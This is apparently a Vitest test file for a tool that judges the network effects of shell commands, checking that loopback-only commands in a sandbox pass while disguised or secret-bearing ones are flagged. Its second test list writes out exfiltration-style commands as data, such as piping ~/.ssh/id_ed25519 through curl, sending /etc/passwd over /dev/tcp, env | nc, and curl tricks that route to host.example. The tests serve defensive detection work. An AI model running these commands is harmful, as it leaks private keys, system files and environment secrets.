import { describe, expect, it } from 'vitest';
import { judgeEffects, type Walls } from '../effects/judge-effects.ts';
import type { AnalysisPreset } from '../effects/rule-table.ts';
import { readCommand } from './analyse-command.ts';
import { decide, TEST_PLACE } from './testing.ts';

function findings(command: string, preset: AnalysisPreset = 'default', walls: Walls = 'no way out') {
  return judgeEffects(readCommand(command, TEST_PLACE).effects, preset, undefined, walls);
}

describe('a boxed command that sends to its loopback', () => {
  it.each([
    'curl -s -X POST -d @order.json http://localhost:3000/orders',
    "curl -H 'content-type: application/json' --json '{}' 127.0.0.1:8080/api",
    'exec 3<>/dev/tcp/127.0.0.1/5000; echo hello >&3; cat <&3',
    'echo stats | nc localhost 11211',
  ])('is not asked about, as no other machine can get it: %s', (command) => {
    expect(findings(command)).toEqual([]);
    expect(decide(command), 'without a box').toBe('escalate');
    // Its proxy listens on the loopback, too.
    expect(findings(command, 'default', 'way out')[0]?.decision, 'with a host').toBe('escalate');
    expect(findings(command, 'strict')[0]?.decision, 'where a person wants to be asked').toBe('escalate');
  });

  it.each([
    ['curl -d @order.json -x http://host.example:80 http://localhost:3000/', 'data-sent'],
    ['curl -d @order.json --connect-to ::host.example: http://localhost/', 'data-sent'],
    ['curl -d @order.json http://localhost.host.example/', 'data-sent'],
    ['curl -d @order.json http://localhost:3000/ http://host.example/', 'data-sent'],
    ['curl -d @order.json http://localhost@host.example/', 'data-sent'],
    ['curl -d @- http://localhost:3000/ < ~/.ssh/id_ed25519', 'secrets-sent'],
    ['echo hello > /dev/tcp/127.0.0.1.host.example/80', 'data-sent'],
    ['cat /etc/passwd > /dev/tcp/127.0.0.1/80', 'private-data-sent'],
    ['env | nc localhost 9000', 'environment-sent'],
    ['echo x | nc -X connect -x host.example:80 localhost 9000', 'data-sent'],
  ])('is judged like any other if it leads elsewhere or is secret: %s', (command, rule) => {
    expect(findings(command).map((one) => one.rule)).toContain(rule);
  });
});
